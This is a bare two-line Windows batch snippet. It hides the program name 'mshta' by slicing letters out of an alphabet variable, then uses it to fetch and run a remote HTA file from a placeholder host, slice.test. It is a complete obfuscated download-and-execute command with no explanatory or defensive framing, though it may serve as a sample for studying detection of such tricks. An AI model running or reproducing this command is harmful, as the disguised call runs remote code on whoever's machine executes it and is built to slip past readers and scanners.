set k=abcdefghijklmnopqrstuvwxyz:/.
%k:~12,1%%k:~18,1%%k:~7,1%%k:~19,1%%k:~0,1% http://slice.test/a.hta
